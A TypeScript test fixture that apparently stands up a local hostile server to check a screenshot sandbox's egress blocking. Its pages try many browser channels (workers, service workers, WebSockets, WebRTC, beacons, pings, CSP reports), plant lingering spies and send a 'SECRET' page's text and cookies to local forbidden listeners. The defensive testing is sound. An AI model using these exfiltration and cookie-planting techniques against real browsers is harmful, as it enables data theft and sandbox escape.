// A dashboard server gone bad, on 127.0.0.1: pages that try every way out of the screenshot
// sandbox towards forbidden listeners (forbidden-listeners.ts), a page that leaves things behind
// to spy on the next capture, a "secret" dashboard, a page that shows what credentials it can
// see, and a second server on another port of the same host. Pages report what happened to
// their own server (an allowed host) at /report.
import { EventEmitter } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocketServer } from 'ws';
import type { ForbiddenListeners } from './forbidden-listeners.js';

/** What a request carried, for the credential checks. */
export interface Seen {
  path: string;
  cookie: string | null;
  token: string | null;
}

export interface HostileServer {
  /** http://127.0.0.1:<port><path> */
  url(path: string): string;
  origin: string;
  /** Route → what the page said happened. */
  reports: Map<string, string>;
  seen: Seen[];
  /** Emits 'report', 'seen' and 'socket-closed'. */
  events: EventEmitter;
  /** WebSockets to this server that are open now. */
  openSockets(): number;
  close(): Promise<void>;
}

/** Routes whose attempt reaches the network, so the egress proxy must see and refuse each. */
export const PROXIED_ROUTES = [
  'dedicated-worker',
  'shared-worker',
  'websocket',
  'websocket-tls',
  'webrtc-turn-tcp',
  'prefetch',
  'beacon',
  'event-source',
  'image',
  'keepalive-fetch',
  'iframe',
  'image-localhost',
  // Requests the browser process makes for the page: a hyperlink ping, a CSP violation report,
  // a FedCM identity provider's config.
  'ping',
  'csp-report',
  'fedcm',
] as const;
/** Routes the browser must stop before any request (the page reports the outcome). */
export const BLOCKED_ROUTES = ['window-open', 'blank-link', 'service-worker', 'service-worker-module', 'webrtc', 'webtransport'] as const;
/** Routes with no outcome to wait for (the listener must still see nothing). */
export const SILENT_ROUTES = ['preconnect', 'dns-prefetch'] as const;
/** The route aimed at "localhost" (127.0.0.1 by a name not on the allow-list). */
export const LOCALHOST_ROUTE = 'image-localhost';
/** Routes aimed at 127.0.0.2, 127.0.0.3, … in this order. */
export const NUMBERED_ROUTES = [...PROXIED_ROUTES, ...BLOCKED_ROUTES, ...SILENT_ROUTES].filter((r) => r !== LOCALHOST_ROUTE);
/** Routes with no outcome the page can report (TURN over TCP is part of "webrtc"). */
const UNREPORTED: readonly string[] = ['webrtc-turn-tcp', 'ping', 'csp-report', 'fedcm'];
/** Routes the escapes page reports an outcome for. */
export const REPORTING_ROUTES = [...PROXIED_ROUTES, ...BLOCKED_ROUTES].filter((r) => !UNREPORTED.includes(r));

const page = (body: string, style = '') =>
  `<!doctype html><html><head><meta charset="utf-8"><style>html,body{margin:0;background:#fff}${style}</style></head><body>${body}</body></html>`;

/** The page's report helper: a request to its own server. */
const REPORT = `const report = (route, outcome) => fetch('/report?route=' + encodeURIComponent(route) + '&outcome=' + encodeURIComponent(outcome)).catch(() => {});`;

function targetsOf(listeners: ForbiddenListeners): Record<string, { host: string; http: string; https: string; ws: string; wss: string; tcp: number; udp: number }> {
  return Object.fromEntries(
    [...listeners.byRoute.values()].map((l) => [
      l.route,
      { host: l.host, http: l.url('http'), https: l.url('https'), ws: l.url('ws'), wss: l.url('wss'), tcp: l.tcpPort, udp: l.udpPort },
    ]),
  );
}

/** Every escape at once; #done appears once each attempt with an outcome has one. */
function escapesPage(listeners: ForbiddenListeners): string {
  return page(
    `<h1>Totally a dashboard</h1><div id="chart" style="width:200px;height:100px;background:#00f"></div><iframe name="sink" style="display:none"></iframe><script>
      const T = ${JSON.stringify(targetsOf(listeners))};
      ${REPORT}
      const settled = [];
      const attempt = (route, fn) => settled.push(Promise.resolve().then(fn).then((o) => report(route, String(o)), (e) => report(route, 'threw ' + e.name)));
      const link = (rel, href) => { const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.append(l); return l; };
      const loaded = (element) => new Promise((ok) => { element.onload = () => ok('loaded'); element.onerror = () => ok('error'); });

      attempt('window-open', () => (window.open(T['window-open'].http + 'popup') ? 'opened' : 'blocked'));
      attempt('blank-link', () => { const a = document.createElement('a'); a.href = T['blank-link'].http + 'blank'; a.target = '_blank'; document.body.append(a); a.click(); return 'clicked'; });
      attempt('dedicated-worker', () => new Promise((ok) => { const w = new Worker('/worker.js?to=' + encodeURIComponent(T['dedicated-worker'].http + 'worker')); w.onmessage = (e) => ok(e.data); w.onerror = () => ok('worker failed'); }));
      attempt('shared-worker', () => new Promise((ok) => { const w = new SharedWorker('/worker.js?shared&to=' + encodeURIComponent(T['shared-worker'].http + 'shared')); w.port.onmessage = (e) => ok(e.data); w.onerror = () => ok('worker failed'); }));
      attempt('service-worker', () => navigator.serviceWorker.register('/sw.js?to=' + encodeURIComponent(T['service-worker'].http + 'sw')).then(() => 'registered', (e) => 'refused ' + e.name));
      attempt('service-worker-module', () => navigator.serviceWorker.register('/sw.js?module&to=' + encodeURIComponent(T['service-worker-module'].http + 'sw'), { type: 'module', scope: '/m/' }).then(() => 'registered', (e) => 'refused ' + e.name));
      attempt('websocket', () => new Promise((ok) => { const s = new WebSocket(T.websocket.ws + 'ws'); s.onopen = () => ok('open'); s.onerror = () => ok('error'); }));
      attempt('websocket-tls', () => new Promise((ok) => { const s = new WebSocket(T['websocket-tls'].wss + 'wss'); s.onopen = () => ok('open'); s.onerror = () => ok('error'); }));
      attempt('webrtc', async () => {
        const pc = new RTCPeerConnection({ iceServers: [
          { urls: 'stun:' + T.webrtc.host + ':' + T.webrtc.udp },
          { urls: 'turn:' + T.webrtc.host + ':' + T.webrtc.udp + '?transport=udp', username: 'u', credential: 'c' },
          { urls: 'turn:' + T['webrtc-turn-tcp'].host + ':' + T['webrtc-turn-tcp'].tcp + '?transport=tcp', username: 'u', credential: 'c' },
        ] });
        pc.createDataChannel('x');
        const complete = new Promise((ok) => { pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') ok(); }; });
        await pc.setLocalDescription(await pc.createOffer());
        await complete;
        return 'gathered';
      });
      attempt('prefetch', () => loaded(link('prefetch', T.prefetch.http + 'prefetch')));
      link('preconnect', T.preconnect.https);
      link('dns-prefetch', '//' + T['dns-prefetch'].host + '/');
      attempt('beacon', () => (navigator.sendBeacon(T.beacon.http + 'beacon', 'x') ? 'queued' : 'not queued'));
      attempt('event-source', () => new Promise((ok) => { const e = new EventSource(T['event-source'].http + 'events'); e.onopen = () => ok('open'); e.onerror = () => { e.close(); ok('error'); }; }));
      attempt('image', () => { const i = new Image(); const p = loaded(i); i.src = T.image.http + 'pixel.png'; return p; });
      attempt('image-localhost', () => { const i = new Image(); const p = loaded(i); i.src = T['image-localhost'].http + 'pixel.png'; return p; });
      attempt('keepalive-fetch', () => fetch(T['keepalive-fetch'].http + 'keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }).then(() => 'sent', () => 'error'));
      attempt('iframe', () => { const f = document.createElement('iframe'); const p = loaded(f); f.src = T.iframe.http + 'frame'; document.body.append(f); return p; });
      attempt('webtransport', () => (typeof WebTransport === 'undefined' ? 'absent' : new WebTransport('https://' + T.webtransport.host + ':' + T.webtransport.udp + '/').ready.then(() => 'open', (e) => 'failed ' + e.name)));
      const pinging = document.createElement('a'); pinging.href = '/pinged'; pinging.ping = T.ping.http + 'ping'; pinging.target = 'sink'; document.body.append(pinging); pinging.click();
      const audio = document.createElement('audio'); audio.src = '/violation.mp3'; document.body.append(audio);
      try { navigator.credentials.get({ identity: { providers: [{ configURL: T.fedcm.http + 'config.json', clientId: 'x' }] } }).catch(() => {}); } catch (e) {}
      Promise.all(settled).then(() => { const d = document.createElement('div'); d.id = 'done'; document.body.append(d); });
    </script>`,
  );
}

/**
 * Capture 1 of two: leaves behind whatever it can — a window, a shared worker, a service worker,
 * a WebSocket held open — each watching for the next capture's secret and sending it to the
 * listener of its route. #done appears once it has tried everything.
 */
function leftoversPage(listeners: ForbiddenListeners): string {
  return page(
    `<h1>Harmless</h1><div id="chart" style="width:200px;height:100px;background:#0f0"></div><script>
      const T = ${JSON.stringify(targetsOf(listeners))};
      ${REPORT}
      // A window of the same origin as the next dashboard, reading its opener (spyPage).
      const w = window.open('/spy');
      new SharedWorker('/worker.js?shared&hold&to=' + encodeURIComponent(T['shared-worker'].http + 'leak'));
      navigator.serviceWorker && navigator.serviceWorker.register('/sw.js?to=' + encodeURIComponent(T['service-worker'].http + 'leak')).catch(() => {});
      const held = new WebSocket('ws://' + location.host + '/hold');
      held.onopen = () => { const d = document.createElement('div'); d.id = 'done'; d.textContent = 'ready'; document.body.append(d); report('leftovers', w ? 'window left' : 'no window'); };
    </script>`,
  );
}

/** Windows opened with a user gesture (a click), which the popup blocker lets through. */
function gesturePage(listeners: ForbiddenListeners): string {
  const T = targetsOf(listeners);
  return page(
    `<button id="open" onclick='window.open(${JSON.stringify(T['window-open']!.http + 'gesture')})'>open</button>` +
      `<a id="blank" href="${T['blank-link']!.http}gesture" target="_blank">blank</a>` +
      `<a id="same" href="/landing" target="_blank">same origin</a>`,
  );
}

/** The window capture 1 leaves: once its opener shows the secret, sends it out. */
function spyPage(listeners: ForbiddenListeners): string {
  return page(
    `<h1>spy</h1><script>
      const T = ${JSON.stringify(targetsOf(listeners))};
      setInterval(() => {
        try {
          const text = opener && opener.document.body.innerText;
          if (text && text.includes('SECRET')) {
            new WebSocket(T['window-open'].ws + 'leak');
            fetch(T['window-open'].http + 'leak?' + encodeURIComponent(text), { mode: 'no-cors' });
          }
        } catch (e) {}
      }, 20);
    </script>`,
  );
}

/** What a page can see of the credentials, and requests to the other server (same host, another port). */
function credentialsPage(otherOrigin: string): string {
  return page(
    `<div id="verdict" style="width:200px;height:200px;background:#00f"></div><script>
      ${REPORT}
      const other = ${JSON.stringify(otherOrigin)};
      const before = document.cookie;
      // A cookie of the page's own, and one planted under the configured cookie's name.
      document.cookie = 'theme=dark; path=/';
      document.cookie = 'session=planted; path=/';
      const img = new Image(); img.src = other + '/seen/image';
      Promise.all([
        report('document.cookie', before),
        fetch('/seen/fetch').catch(() => {}),
        fetch(other + '/seen/fetch', { credentials: 'include', mode: 'no-cors' }).catch(() => {}),
        fetch('/redirect?to=' + encodeURIComponent(other + '/seen/redirected'), { credentials: 'include', mode: 'no-cors' }).catch(() => {}),
        new Promise((ok) => { img.onload = img.onerror = ok; }),
        new Promise((ok) => { const f = document.createElement('iframe'); f.onload = ok; f.src = other + '/seen/frame'; document.body.append(f); }),
      ]).then(() => { document.getElementById('verdict').style.background = '#0f0'; document.body.dataset.done = '1'; });
    </script>`,
  );
}

const WORKER = `
  const params = new URL(self.location.href).searchParams;
  const to = params.get('to');
  const go = () => fetch(to, { mode: 'no-cors' }).then(() => 'fetched', () => 'fetch failed');
  if (params.has('shared')) {
    self.onconnect = (e) => { const port = e.ports[0]; if (!params.has('hold')) go().then((o) => port.postMessage(o)); };
    // Left behind: keeps trying (slowly enough that the page still counts as settled).
    if (params.has('hold')) setInterval(() => fetch(to, { mode: 'no-cors' }).catch(() => {}), 500);
  } else {
    go().then((o) => self.postMessage(o));
  }`;

const SERVICE_WORKER = `
  const to = new URL(self.location.href).searchParams.get('to');
  self.addEventListener('install', () => fetch(to, { mode: 'no-cors' }).catch(() => {}));
  self.addEventListener('fetch', () => fetch(to, { mode: 'no-cors' }).catch(() => {}));
  fetch(to, { mode: 'no-cors' }).catch(() => {});`;

export async function startHostileServer(listeners: ForbiddenListeners, otherOrigin = ''): Promise<HostileServer> {
  const reports = new Map<string, string>();
  const seen: Seen[] = [];
  const events = new EventEmitter();
  const sockets = new WebSocketServer({ noServer: true });

  function handle(req: IncomingMessage, res: ServerResponse) {
    const url = new URL(req.url ?? '/', 'http://hostile.test');
    seen.push({ path: url.pathname, cookie: req.headers.cookie ?? null, token: (req.headers['x-token'] as string | undefined) ?? null });
    events.emit('seen');
    const send = (type: string, body: string) => {
      res.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' });
      res.end(body);
    };
    switch (url.pathname) {
      case '/report':
        reports.set(url.searchParams.get('route') ?? '', url.searchParams.get('outcome') ?? '');
        events.emit('report');
        return send('text/plain', 'ok');
      case '/escapes':
        // Media may not load, and a violation is reported to a forbidden host.
        res.setHeader('content-security-policy', `media-src 'none'; report-uri ${listeners.byRoute.get('csp-report')!.url('http', '/csp')}`);
        return send('text/html; charset=utf-8', escapesPage(listeners));
      case '/leftovers':
        return send('text/html; charset=utf-8', leftoversPage(listeners));
      case '/secret':
        return send('text/html; charset=utf-8', page('<h1>SECRET revenue 4,200,000</h1><div id="chart" style="width:200px;height:100px;background:#f00"></div>'));
      case '/gesture':
        return send('text/html; charset=utf-8', gesturePage(listeners));
      case '/redirect':
        res.writeHead(302, { location: url.searchParams.get('to') ?? '/' });
        return res.end();
      case '/spy':
        return send('text/html; charset=utf-8', spyPage(listeners));
      case '/credentials':
        return send('text/html; charset=utf-8', credentialsPage(otherOrigin));
      case '/worker.js':
        return send('text/javascript', WORKER);
      case '/sw.js':
        return send('text/javascript', SERVICE_WORKER);
      default:
        return send('text/html; charset=utf-8', page(`<h1>${url.pathname.replace(/[^a-z/-]/g, '')}</h1>`));
    }
  }

  const server = createServer(handle);
  server.on('upgrade', (req, socket, head) =>
    sockets.handleUpgrade(req, socket, head, (client) => client.once('close', () => events.emit('socket-closed'))),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  return {
    url: (path) => `${origin}${path}`,
    origin,
    reports,
    seen,
    events,
    openSockets: () => sockets.clients.size,
    async close() {
      for (const client of sockets.clients) client.terminate();
      sockets.close();
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}
